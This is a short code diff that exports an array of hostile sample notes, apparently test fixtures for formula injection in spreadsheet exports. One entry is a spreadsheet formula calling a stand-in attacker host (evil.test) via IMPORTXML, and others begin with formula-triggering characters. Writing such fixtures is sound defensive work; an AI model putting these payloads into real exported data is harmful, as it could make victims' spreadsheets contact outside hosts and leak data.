@@ -369,7 +369,7 @@ const SOURCE_SPECS: SourceSpec[] = [
   },
 ];
 
-const HOSTILE_NOTES = [
+export const HOSTILE_NOTES = [
   '=IMPORTXML("http://evil.test","//a")',
   '-5 budget, call back',
   '+1 follow up next week',
